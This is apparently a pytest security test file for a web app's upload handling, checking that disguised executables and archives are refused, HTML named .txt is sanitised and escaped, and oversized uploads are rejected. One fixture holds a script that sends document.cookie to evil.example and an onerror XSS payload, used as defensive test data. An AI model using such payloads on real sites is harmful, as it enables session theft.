"""Uploads disguised by their file names: an executable or an archive called .pdf or
.txt is refused with what it really is, through the source page, the CLI and the import
page, and nothing is stored; HTML called .txt is read as HTML (its script dropped, its
text escaped); an upload over the request limit is refused before it is read."""

from __future__ import annotations

import gzip
import io
import zipfile
from pathlib import Path

import pytest
from security.inert import dangers
from sqlalchemy import func, select
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from workbench.extensions import db
from workbench.models import Article, Snapshot, Source

pytestmark = pytest.mark.security

FORM = {"fmt": "auto", "language": "auto"}


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 4
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(range(256)) * 4
# Each file with the name it pretends to have and the words the refusal must use.
DISGUISED = [
    ("report.pdf", ELF, "an ELF executable"),
    ("notes.txt", ELF, "an ELF executable"),
    ("report.pdf", PE, "a Windows executable"),
    ("page.html", b"\x89PNG\r\n\x1a\n" + bytes(200), "a PNG image"),
    (
        "page.html",
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + bytes(64) + b"<script>x</script>",
        "a GIF image",
    ),
    ("article.txt", gzip.compress(b"<html>" * 1000), "a gzip archive"),
    ("article.txt", _zip(), "a ZIP archive"),
    ("report.pdf", bytes(range(256)) * 8, "binary data"),
]
HTML_AS_TEXT = b"""<!doctype html><html><head><title>Notiz</title>
<script>document.location='https://evil.example/?c='+document.cookie</script></head>
<body><article><p>Die Regierung zahlte am Montag 50 Millionen Euro an die Opfer.</p>
<img src=x onerror="alert(1)"><p>&lt;script&gt;alert("text")&lt;/script&gt; bleibt Text.</p>
</article></body></html>"""


@pytest.fixture
def source_id(app, session):
    source = Source(url="https://example.org/seite", kind="page", title="")
    session.add(source)
    session.commit()
    source_id = source.id
    session.remove()
    return source_id


def _stored(app) -> tuple[int, int, int]:
    """Snapshots, articles and blob files: what an accepted upload adds to."""
    with app.app_context():
        snapshots = db.session.scalar(select(func.count(Snapshot.id)))
        articles = db.session.scalar(select(func.count(Article.id)))
        db.session.remove()
    folder = Path(app.config["SNAPSHOT_DIR"])
    blobs = sum(1 for p in folder.rglob("*") if p.is_file()) if folder.exists() else 0
    return snapshots, articles, blobs


def test_a_disguised_file_is_refused_as_what_it_is_everywhere(
    app, attack, client, runner, source_id, tmp_path
):
    app.config["WTF_CSRF_ENABLED"] = False
    json = {"Accept": "application/json"}
    before = _stored(app)
    for name, data, what in DISGUISED:
        with attack("upload", f"source upload {name} that is {what}"):
            response = client.post(
                f"/sources/{source_id}/upload",
                data={"file": (io.BytesIO(data), name)},
                content_type="multipart/form-data",
                headers=json,
            )
            assert response.status_code == 400 and what in response.get_json()["error"]
        with attack("upload", f"workbench snapshot add {name} that is {what}"):
            path = tmp_path / name
            path.write_bytes(data)
            result = runner.invoke(args=["snapshot", "add", str(source_id), str(path)])
            assert result.exit_code == 1 and what in result.output, result.output
        with attack("upload", f"import page file {name} that is {what}"):
            response = client.post(
                "/import",
                data={"file": (io.BytesIO(data), name), "fmt": "auto", "language": "auto"},
                content_type="multipart/form-data",
            )
            assert response.status_code == 422, response.status_code
        with attack("upload", f"nothing stored for {name} that is {what}"):
            assert _stored(app) == before


def test_html_called_txt_is_read_as_html_and_shown_as_text(app, attack, client, source_id):
    app.config["WTF_CSRF_ENABLED"] = False
    response = client.post(
        f"/sources/{source_id}/upload",
        data={"file": (io.BytesIO(HTML_AS_TEXT), "notes.txt")},
        content_type="multipart/form-data",
        headers={"Accept": "application/json"},
    )
    assert response.status_code == 200, response.get_json()
    with app.app_context():
        snapshot = db.session.scalars(select(Snapshot)).one()
        kind, text, snapshot_id = snapshot.content_type, snapshot.text, snapshot.id
        db.session.remove()
    with attack("upload", "HTML named .txt is judged by its bytes"):
        assert kind == "text/html"
    with attack("upload", "its script and handlers are not its text"):
        assert "document.cookie" not in text and "onerror" not in text
        assert "50 Millionen Euro" in text and '<script>alert("text")</script>' in text
    with attack("upload", "its text is shown escaped"):
        page = client.get(f"/snapshots/{snapshot_id}").get_data(as_text=True)
        assert not dangers(page) and "&lt;script&gt;alert" in page


def test_an_upload_over_the_request_limit_is_refused_before_it_is_read(
    app, attack, client, source_id
):
    app.config["WTF_CSRF_ENABLED"] = False
    limit = app.config["MAX_CONTENT_LENGTH"]
    with attack("upload", "a request body over the limit (the default configuration)"):
        assert limit and limit <= app.config["MAX_UPLOAD_BYTES"] + 1024 * 1024
        # Encoded here, in memory: the test client would spool it to a file it leaves open.
        boundary, body = encode_multipart({"file": FileStorage(io.BytesIO(b"x" * limit), "a.txt")})
        response = client.post(
            f"/sources/{source_id}/upload",
            data=body,
            content_type=f"multipart/form-data; boundary={boundary}",
        )
        assert response.status_code == 413
        assert "The upload is larger than the limit of 11 MB" in response.get_data(as_text=True)
    # The form limit is the article's, not Flask's 500 kB: a 600 kB text reaches the
    # import, which says what it makes of it (this one is no prose).
    response = client.post("/import", data={"text": "0123456789 " * 60_000, **FORM})
    assert response.status_code == 422, response.status_code
